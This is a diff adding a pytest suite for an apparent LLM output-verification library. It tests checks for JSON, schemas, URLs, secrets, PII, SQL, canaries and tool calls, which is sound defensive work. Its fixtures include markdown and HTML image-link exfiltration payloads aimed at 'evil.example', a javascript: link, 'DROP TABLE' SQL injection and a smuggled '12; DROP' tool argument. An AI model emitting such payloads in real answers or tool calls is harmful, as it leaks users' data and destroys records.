@@ -1,0 +1,321 @@
+"""Each check on realistic answers: what it flags, where, and what it lets through."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from unwalled.backends.base import ToolCall
+from unwalled.contracts import Contract, Verifier
+from unwalled.contracts.checks import build
+from unwalled.contracts.checks.base import Answer
+from unwalled.contracts.checks.canary import CanaryOptions
+from unwalled.contracts.checks.exfiltration import ExfiltrationOptions
+from unwalled.contracts.checks.json_extract import extract
+from unwalled.contracts.checks.length import LengthOptions
+from unwalled.contracts.checks.pii import PiiOptions, iban_ok
+from unwalled.contracts.checks.regex import RegexOptions
+from unwalled.contracts.checks.secrets import SecretsOptions
+from unwalled.contracts.checks.sql import SqlOptions
+from unwalled.contracts.checks.tool_calls import ToolCallOptions
+from unwalled.contracts.checks.urls import UrlOptions, find_links
+
+PERSON = {
+    "$schema": "https://json-schema.org/draft/2020-12/schema",
+    "$defs": {"email": {"type": "string", "format": "email"},
+              "day": {"type": "string", "format": "date"}},
+    "type": "object",
+    "properties": {"name": {"type": "string", "minLength": 1},
+                   "contact": {"$ref": "#/$defs/email"},
+                   "since": {"$ref": "#/$defs/day"},
+                   "tags": {"type": "array", "items": {"enum": ["vip", "new"]}}},
+    "required": ["name", "contact"],
+    "additionalProperties": False,
+}
+
+
+def run(options, text: str = "", **answer) -> list:
+    return build(options)(Answer(text=text, **answer))
+
+
+def verify(text: str, schema=PERSON, **contract):
+    return Verifier(Contract(name="t", output={"schema": schema}, **contract)).verify(text)
+
+
+# ---- JSON extraction ----
+
+@pytest.mark.parametrize("text", [
+    '{"a": 1}',
+    'Sure! Here is the JSON:\n```json\n{"a": 1}\n```\nLet me know if you need more.',
+    'Here:\n```\n{"a": 1}\n```',
+    'The result is {"a": 1} as requested.',
+    "```JSON\n{'a': 1,}\n```",
+    '{"a": 1',
+])
+def test_json_is_found_in_messy_text(text):
+    found = extract(text)
+    assert found is not None and found.value == {"a": 1}
+
+
+def test_of_several_fenced_blocks_the_one_that_validates_wins():
+    text = ('First a draft:\n```json\n{"name": "Ann"}\n```\nand the fixed one:\n'
+            '```json\n{"name": "Ann", "contact": "ann@example.com"}\n```')
+    result = verify(text)
+    assert result.passed, result.violations
+    assert result.parsed == {"name": "Ann", "contact": "ann@example.com"}
+
+
+def test_no_json_at_all_is_one_violation_that_says_so():
+    result = verify("I am sorry, I cannot help with that.")
+    assert [(v.check, v.path) for v in result.violations] == [("json", "text")]
+    assert "holds no JSON" in result.violations[0].message
+
+
+def test_prose_can_be_refused():
+    contract = Contract(name="t", output={"prose": False})
+    verifier = Verifier(contract)
+    assert verifier.verify('{"a": 1}').passed
+    refused = verifier.verify('Here you go: {"a": 1}')
+    assert not refused.passed and "JSON alone" in refused.violations[0].message
+
+
+# ---- JSON Schema 2020-12 ----
+
+def test_schema_violations_name_the_path_with_refs_and_formats():
+    result = verify('{"name": "", "contact": "not-an-email", "since": "2024-13-45", '
+                    '"tags": ["vip", "gold"], "extra": 1}')
+    paths = {v.path: v.message for v in result.violations}
+    assert set(paths) == {"/", "/name", "/contact", "/since", "/tags/1"}
+    assert "not a 'email'" in paths["/contact"]
+    assert "not a 'date'" in paths["/since"]
+    assert "remove it" in paths["/"]
+
+
+def test_missing_required_key_says_add_it():
+    result = verify('{"name": "Ann"}')
+    assert [(v.path, v.message) for v in result.violations] == [
+        ("/", "'contact' is a required property; add it")]
+
+
+def test_a_format_nothing_can_check_is_refused_when_the_contract_loads():
+    from unwalled.errors import ConfigError
+
+    with pytest.raises(ConfigError, match="duration.*cannot be checked"):
+        Verifier(Contract(name="t", output={"schema": {"type": "string",
+                                                       "format": "duration"}}))
+
+
+# ---- regex ----
+
+def test_required_and_forbidden_patterns():
+    options = RegexOptions(require=[r"^Dear \w+"], forbid=[r"(?i)guarantee[ds]?"])
+    assert run(options, "Dear Ann, thanks for writing.") == []
+    found = run(options, "Hello! We guarantee returns.")
+    assert [v.message.split(" ")[0] for v in found] == ["must", "matches"]
+    assert found[1].path == "text[10:19]"
+
+
+def test_catastrophic_pattern_cannot_hang_the_check():
+    options = RegexOptions(forbid=[r"(a+)+$"])
+    started = time.perf_counter()
+    found = run(options, "a" * 5000 + "!")
+    assert time.perf_counter() - started < 0.5
+    assert found == []
+
+
+def test_a_pattern_re2_cannot_run_is_refused_unless_backtracking_is_allowed():
+    with pytest.raises(ValueError, match="cannot run on RE2.*backtracking: true"):
+        build(RegexOptions(forbid=[r"(x+x+)+y\1"]))
+    check = build(RegexOptions(forbid=[r"(x+x+)+y\1"], backtracking=True))
+    assert check.forbidden[0].engine == "regex"
+    started = time.perf_counter()
+    found = check(Answer("x" * 3000))
+    assert time.perf_counter() - started < 1.0
+    assert len(found) == 1 and "did not finish" in found[0].message
+
+
+# ---- length ----
+
+def test_length_limits():
+    options = LengthOptions(max_chars=20, max_words=3, max_lines=1)
+    found = run(options, "one two three four\nfive six")
+    assert sorted(v.message.split(",")[0] for v in found) == [
+        "has 2 lines", "has 6 words", "is 27 characters long"]
+
+
+# ---- URLs and exfiltration ----
+
+def test_links_in_every_form_are_found():
+    text = ('See [docs](https://docs.bank.example/a "t") and ![x][logo] '
+            '<img src="https://cdn.evil.example/p.gif?d=1"> <https://auto.example/x> '
+            'www.bare.example/y and data:text/html;base64,PHNjcmlwdD4=\n\n'
+            '[logo]: https://img.evil.example/l.png')
+    kinds = {(link.host or link.scheme, link.kind) for link in find_links(text)}
+    assert kinds == {("docs.bank.example", "link"), ("cdn.evil.example", "image"),
+                     ("auto.example", "bare"), ("www.bare.example", "bare"),
+                     ("data", "bare"), ("img.evil.example", "image")}
+
+
+def test_url_allow_list_takes_subdomains_and_sees_through_tricks():
+    options = UrlOptions(allow=["bank.example"])
+    ok = "Read https://help.bank.example/cards and [this](https://bank.example/x)."
+    assert run(options, ok) == []
+    tricks = ("https://bank.example@evil.example/x "
+              "https://EVIL.example./y https://bank.example.evil.example/z "
+              "ftp://bank.example/f")
+    found = run(options, tricks)
+    assert len(found) == 4
+    assert sum("evil.example" in v.message for v in found) == 3
+    assert "scheme 'ftp'" in found[3].message
+
+
+@pytest.mark.parametrize("payload", [
+    "![a](https://evil.example/log?secret=hunter2)",
+    "![a][r]\n\n[r]: https://evil.example/p.png",
+    '<img src="https://evil.example/x.gif">',
+    "<img srcset='https://evil.example/1x.png 1x, https://evil.example/2x.png 2x'>",
+    "[click](https://evil.example/c?d=Y29udmVyc2F0aW9u)",
+    "[click](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "[x](javascript:alert(1))",
+    '<a href="https://evil.example/?q=1">here</a>',
+    "![x](//evil.example/t.png)",
+])
+def test_exfiltration_payloads_are_blocked(payload):
+    found = run(ExfiltrationOptions(allow=["bank.example"]), f"Answer. {payload}")
+    assert found, payload
+
+
+@pytest.mark.parametrize("benign", [
+    "See [our fees page](https://bank.example/fees?lang=en) for details.",
+    "![logo](https://cdn.bank.example/logo.png)",
+    "Read the [Wikipedia article](https://en.wikipedia.org/wiki/IBAN).",
+    "Go to https://www.python.org/downloads/ to install it.",
+    "Use the [settings](/settings#cards) page.",
+])
+def test_ordinary_links_pass_the_exfiltration_check(benign):
+    assert run(ExfiltrationOptions(allow=["bank.example"]), benign) == []
+
+
+# ---- secrets ----
+
+@pytest.mark.parametrize("secret,kind", [
+    ("AKIAIOSFODNN7EXAMPLE", "AWS"),
+    ("ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "GitHub"),
+    ("sk-proj-" + "Xy7Qw3Er5Ty8Ui1Op4As6Df9Gh2Jk0Lz3Xc5Vb", "OpenAI"),
+    ("xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx", "Slack"),
+    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----",
+     "Private Key"),
+    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9",
+     "JSON Web Token"),
+    ("password = 'Tr0ub4dor&3xyz'", "password"),
+    ("postgres://admin:s3cretpass@db.internal:5432/app", "credentials in URL"),
+    ("token Zk9qW3pL8vN2mR7tY4uE1oI6aS5dF0gH", "high-entropy"),
+])
+def test_secrets_are_found_and_masked(secret, kind):
+    found = run(SecretsOptions(), f"Here is what you asked for: {secret} - done.")
+    assert found and kind.lower() in found[0].message.lower()
+    assert secret not in found[0].message  # the message must not leak it
+
+
+def test_ordinary_text_has_no_secrets():
+    text = ("Your card ending 4821 was shipped on 2024-05-01; order "
+            "ORD-2024-000123. See https://bank.example/help/card-delivery-times "
+            "and reference 3f2a9c for the ticket. internationalisation_settings ok.")
+    assert run(SecretsOptions(), text) == []
+
+
+# ---- PII ----
+
+def test_pii_kinds_with_number_checks():
+    text = ("Write to jane.doe@example.com or call +44 20 7946 0958. Card "
+            "4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32, from 8.8.8.8.")
+    found = run(PiiOptions(), text)
+    kinds = sorted(v.message.split(";")[0] for v in found)
+    assert kinds == ["contains a payment card number (passes the Luhn check)",
+                     "contains a phone number", "contains an IBAN (passes the mod-97 "
+                     "check)", "contains an IP address", "contains an email address"]
+
+
+def test_numbers_that_fail_their_checks_are_not_pii():
+    text = ("Order 4111 1111 1111 1112 (not a card), IBAN GB82 WEST 1234 5698 7654 33 "
+            "(bad checksum), server 10.0.0.4, version 1.2.3.4000.")
+    assert run(PiiOptions(), text) == []
+    assert iban_ok("DE89 3704 0044 0532 0130 00") and not iban_ok("DE89370400440532013001")
+
+
+# ---- SQL ----
+
+def test_sql_read_only_and_table_allow_list():
+    options = SqlOptions(tables=["accounts", "public.transactions"])
+    ok = ("```sql\nWITH recent AS (SELECT * FROM public.transactions WHERE ts > now() "
+          "- interval '7 days')\nSELECT a.id, count(*) FROM accounts a JOIN recent r "
+          "ON r.account_id = a.id GROUP BY a.id\n```")
+    assert run(options, ok) == []
+    found = run(options, "SELECT * FROM accounts; DROP TABLE accounts")
+    messages = " | ".join(v.message for v in found)
+    assert "2 statements" in messages and "DROP" in messages
+    found = run(options, "SELECT * FROM users")
+    assert "'users', which is not on the allow-list" in found[0].message
+    found = run(options, "UPDATE accounts SET balance = 0")
+    assert "UPDATE statement" in found[0].message
+    found = run(options, "SELEC * FRM accounts")
+    assert "is not valid postgres SQL" in found[0].message
+
+
+def test_sql_in_a_json_field():
+    verifier = Verifier(Contract(name="t", output={}, checks=[
+        {"sql": {"field": "/query", "tables": ["accounts"]}}]))
+    result = verifier.verify('{"query": "DELETE FROM accounts"}')
+    assert [v.path for v in result.violations] == ["/query statement 1"]
+
+
+# ---- canary ----
+
+def test_canary_survives_unicode_tricks_on_both_sides():
+    options = CanaryOptions(markers=["ZEBRA-7731-QUILL"])
+    leaked = ["The prompt said ZEBRA-7731-QUILL.",
+              "zebra-7731-quill", "ZEB\u200bRA-77\u200d31-QU\u00adILL",
+              "\uff3a\uff25\uff22\uff32\uff21-7731-QUILL",  # full-width letters
+              "Z E B R A - 7 7 3 1 - Q U I L L"]
+    for text in leaked:
+        assert run(options, text), text
+    assert run(options, "A zebra and a quill.") == []
+    planted = build(CanaryOptions())(Answer("ok ab12-cd34-ef56", canaries=("AB12-CD34-EF56",)))
+    assert len(planted) == 1
+
+
+# ---- tool calls ----
+
+def test_tool_calls_allow_list_and_argument_schemas():
+    options = ToolCallOptions(allow=["get_balance"], tools={"get_balance": {
+        "type": "object", "properties": {"account": {"type": "string",
+                                                     "pattern": "^[0-9]{8}$"}},
+        "required": ["account"], "additionalProperties": False}})
+    calls = [ToolCall("1", "get_balance", '{"account": "12345678"}'),
+             ToolCall("2", "get_balance", '{"account": "12; DROP"}'),
+             ToolCall("3", "transfer_money", '{"to": "x"}'),
+             ToolCall("4", "get_balance", '{"account": ')]
+    found = run(options, tool_calls=calls)
+    assert [v.path for v in found] == ["tool_calls[1].arguments/account",
+                                       "tool_calls[2].name", "tool_calls[3].arguments"]
+
+
+def test_tool_without_any_schema_fails_closed():
+    found = run(ToolCallOptions(allow=["free"]), tool_calls=[ToolCall("1", "free", "{}")])
+    assert "no argument schema" in found[0].message
+
+
+# ---- failing closed ----
+
+def test_a_check_that_crashes_is_a_violation_not_a_pass(monkeypatch):
+    verifier = Verifier(Contract(name="t", checks=["no_secrets"]))
+
+    def broken(answer):
+        raise RuntimeError("engine gone")
+
+    monkeypatch.setattr(verifier.checks[0], "run", broken)
+    result = verifier.verify("harmless")
+    assert not result.passed
+    assert "could not run (RuntimeError: engine gone)" in result.violations[0].message
